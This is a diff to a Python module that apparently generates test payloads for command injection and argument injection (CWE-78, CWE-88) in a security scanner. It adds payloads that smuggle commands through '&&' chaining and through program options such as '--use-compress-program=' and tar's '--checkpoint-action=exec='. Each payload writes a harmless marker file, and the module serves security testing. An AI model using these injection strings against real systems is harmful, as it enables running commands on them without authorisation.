@@ -1,7 +1,7 @@
-"""Shell commands (CWE-78): a file appears that nobody else would make, or a product is computed.
+"""Shell commands and options of programs (CWE-78, CWE-88): a file appears, a product is computed.
 
 The commands need no slash, so that they fit one segment of a path: `cd` goes home, where the
-attack watches.
+attack watches. Options are tried as one argument; `tar`'s checkpoint needs two words.
 """
 
 from __future__ import annotations
@@ -40,8 +40,24 @@ def _output(id: str, template: str) -> Technique:
     return Technique(id, make, breaks_out_with=_breaks(template))
 
 
+def _option(id: str, template: str, *, representative: bool = False) -> Technique:
+    """It is an option of the program that gets it: one that writes a file, or runs a command."""
+
+    def make(aim: Aim) -> tuple[Payload, ...]:
+        command = f"cd;echo${{IFS}}{aim.content}>{aim.mark}"  # one word, for what splits at blanks
+        text = template.replace("COMMAND", command).replace("FILE", f"{aim.outside}/{aim.mark}")
+        return (Payload(text, Evidence((), aim.mark)),)
+
+    return Technique(id, make, representative, "-")
+
+
 def _redirection(aim: Aim) -> tuple[Payload, ...]:
     return (Payload(f"x>{aim.outside}/{aim.mark}", Evidence((), aim.mark)),)
+
+
+def _and_only(aim: Aim) -> tuple[Payload, ...]:
+    text = f"tea menu.txt&&cd&&echo {aim.content}>{aim.mark} #"
+    return (Payload(text, Evidence((), aim.mark, aim.content)),)
 
 
 TECHNIQUES = (
@@ -59,5 +75,15 @@ TECHNIQUES = (
     _output("shell.output", "x;expr {} \\* {};"),
     _output("shell.output-single-quote", "x';expr {} \\* {};'"),
     _output("shell.output-double-quote", 'x";expr {} \\* {};"'),
-    Technique("shell.redirection", _redirection),
+    Technique("shell.redirection", _redirection, representative=True),
+    Technique("shell.and-only", _and_only),
+    _option("shell.option.output", "--output=FILE", representative=True),
+    _option("shell.option.output-short", "-oFILE"),
+    _option("shell.option.compress-program", "--use-compress-program=COMMAND"),
+    _option("shell.option.compress-program-short", "-ICOMMAND"),
+    _option(
+        "shell.option.checkpoint",
+        "--checkpoint=1 --checkpoint-action=exec=COMMAND",
+        representative=True,
+    ),
 )
